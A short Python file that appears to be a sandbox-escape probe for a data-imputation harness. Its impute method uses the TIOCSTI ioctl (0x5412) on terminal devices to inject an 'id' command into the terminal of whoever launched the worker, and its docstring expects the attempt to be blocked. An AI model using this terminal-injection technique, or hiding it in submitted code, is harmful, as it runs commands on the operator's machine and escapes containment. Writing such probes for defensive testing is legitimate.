"""Pushes a command into the terminal of whoever started the worker.

Expected: harmless.
"""

import fcntl
import os
import numpy as np


class Method:
    def __init__(self, seed, device):
        pass

    def impute(self, x, categorical):
        for path in ("/dev/tty", "/dev/console", "/dev/stdin", "/dev/stderr", "/dev/pts/0", "/dev/ptmx"):
            try:
                file = os.open(path, os.O_RDWR | os.O_NOCTTY)
                for char in "id\n":
                    fcntl.ioctl(file, 0x5412, char.encode())
                    print("GOT THROUGH", path)
            except OSError as error:
                print(path, error)
        return np.nan_to_num(x)
